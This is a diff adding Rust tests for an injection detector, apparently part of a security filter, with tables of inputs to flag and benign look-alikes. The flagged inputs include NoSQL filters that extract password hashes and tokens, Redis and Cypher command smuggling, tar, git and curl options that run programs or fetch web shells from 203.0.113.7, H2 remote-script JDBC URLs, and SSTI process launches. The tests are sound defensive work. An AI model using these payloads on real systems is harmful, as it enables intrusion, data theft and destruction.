@@ -3110,3 +3110,138 @@ fn script_extensions_cut_off_by_a_nul() {
         &["report.pdf", "photo.php.jpg is not a script here", "a\0b"],
     );
 }
+
+#[test]
+fn filters_and_projections_on_secret_fields_but_not_on_their_neighbours() {
+    let b = FieldKind::BodyText;
+    table(
+        "nosql",
+        b,
+        &[
+            r#"{"email":"admin@example.com","password":{"not":""}}"#,
+            r#"{"resetToken":{"not":"E"},"newPassword":"x"}"#,
+            r#"{"where":{"author":{"password":{"startsWith":"$2b$10$a"}}}}"#,
+            r#"{"filters":{"updatedBy":{"resetPasswordToken":{"$startsWith":"a"}}}}"#,
+            r#"{"filter":{"user_created":{"password":{"_starts_with":"$argon2id$"}}}}"#,
+            r#"{"where":{"articles":{"some":{"createdBy":{"apiKey":{"startsWith":"sk_live_a"}}}}}}"#,
+            r#"{"where":{"id":1},"include":{"author":{"select":{"email":true,"password":true}}}}"#,
+            r#"{"where":{"role":"admin"},"select":["email","password","twoFactorSecret"]}"#,
+            r#"[{"$unionWith":{"coll":"users","pipeline":[{"$project":{"email":1,"passwordHash":1}}]}}]"#,
+            r#"{"query":{"wildcard":{"password_reset_token":{"value":"a*"}}}}"#,
+            r#"{"script":{"source":"doc['password.keyword'].value.startsWith('a')"}}"#,
+            r#"[{"$match":{}},{"$out":"users"}]"#,
+        ],
+        &[
+            r#"{"email":"ana@example.com","password":"correct horse battery staple"}"#,
+            r#"{"passwordExpiresAt":{"lt":"2026-01-01"},"passwordPolicy":{"minLength":12}}"#,
+            r#"{"user":{"select":{"id":true,"password":false}}}"#,
+            r#"{"fields":["username","password"],"submit":"Log in"}"#,
+            r#"{"nutrition":{"salt":{"gte":2}},"select":["name","salt"]}"#,
+            r#"{"query":{"prefix":{"sku":"AB-"}}}"#,
+            r#"{"where":{"tokens":{"gte":1000}},"select":["model","tokens"]}"#,
+            r#"[{"$match":{"status":"paid"}},{"$group":{"_id":"$country","n":{"$sum":1}}}]"#,
+        ],
+    );
+    table(
+        "orm",
+        b,
+        &[
+            r#"{"owner__auth_token__key__startswith":"9f"}"#,
+            r#"{"q":{"reset_password_token_start":"a"}}"#,
+            r#"{"q":{"user_encrypted_password_start":"$2a$12$x"}}"#,
+        ],
+        &[
+            r#"{"q":{"name_start":"a","created_at_gteq":"2026-01-01"}}"#,
+            r#"{"password_changed_at__gte":"2026-01-01"}"#,
+        ],
+    );
+}
+
+#[test]
+fn redis_commands_cypher_and_busy_waits_smuggled_into_values() {
+    table(
+        "nosql",
+        Q,
+        &[
+            "x\nSLAVEOF 203.0.113.7 6379\n",
+            "sess\r\nFLUSHALL\r\n",
+            "x\r\nCONFIG SET dir /var/www/html\r\n",
+            "x'),redis.call('set','user:1:role','admin'),('",
+            "' MATCH (n) DETACH DELETE n//",
+            "' LOAD CSV FROM 'https://203.0.113.7/x' AS l RETURN l//",
+            "' CALL apoc.load.json('http://203.0.113.7/') YIELD value RETURN value//",
+        ],
+        &[
+            "Save the file\nflush the cache and try again",
+            "Set up a replica of the database in another region",
+            "Delete the node and detach the cable first",
+            "Load the CSV from the shared drive",
+            "The match was deleted after the appeal",
+        ],
+    );
+    table(
+        "nodejs",
+        Q,
+        &[
+            "0;var d=new Date();while(new Date()-d<10000){}",
+            "a'; var d=new Date(); do{var c=new Date();}while(c-d<5000); var x='",
+        ],
+        &[
+            "while (the queue is short) keep going",
+            "wait 5000 ms - then retry",
+        ],
+    );
+}
+
+#[test]
+fn options_that_make_a_tool_run_a_program_or_write_a_script() {
+    table(
+        "cmdi",
+        Q,
+        &[
+            "--checkpoint=1 --checkpoint-action=exec=sh shell.sh",
+            "--use-compress-program=sh -c id",
+            "--upload-pack=touch /tmp/pwned",
+            "--remote=x --exec=touch /tmp/pwned",
+            "-o /var/www/html/shell.php http://203.0.113.7/shell.txt",
+            "-O /var/www/html/s.jsp http://203.0.113.7/s.txt",
+            "--use-askpass=/tmp/uploads/x.sh http://203.0.113.7/",
+            "-X/var/www/html/shell.php",
+        ],
+        &[
+            "Use -o report.pdf to save the output",
+            "--output=json",
+            "--exec mode is not supported",
+            "-O2 -march=native",
+            "Exported to report.sh.txt",
+        ],
+    );
+    table(
+        "java",
+        Q,
+        &[
+            "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://203.0.113.7/x.sql'",
+            "jdbc:h2:mem:test;INIT=CREATE ALIAS EXEC AS 'String e(String c){return c;}'",
+            "org.apache.commons.collections.functors.InvokerTransformer",
+            "org.apache.commons",
+            "<value>org.apache.commons</value>",
+        ],
+        &[
+            "jdbc:h2:mem:testdb;DB_CLOSE_DELAY=-1",
+            "pkg:maven/org.apache.commons/commons-lang3@3.14.0",
+            "org.apache.commons:commons-text:1.10.0",
+        ],
+    );
+    table(
+        "ssti",
+        Q,
+        &[
+            "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
+            "{math equation=\"(\\\"\\163\\171\\163\\164\\145\\155\\\")(\\\"\\151\\144\\\")\"}",
+        ],
+        &[
+            "email me @System admin",
+            "{math equation=\"x + y\" x=4 y=5}",
+        ],
+    );
+}
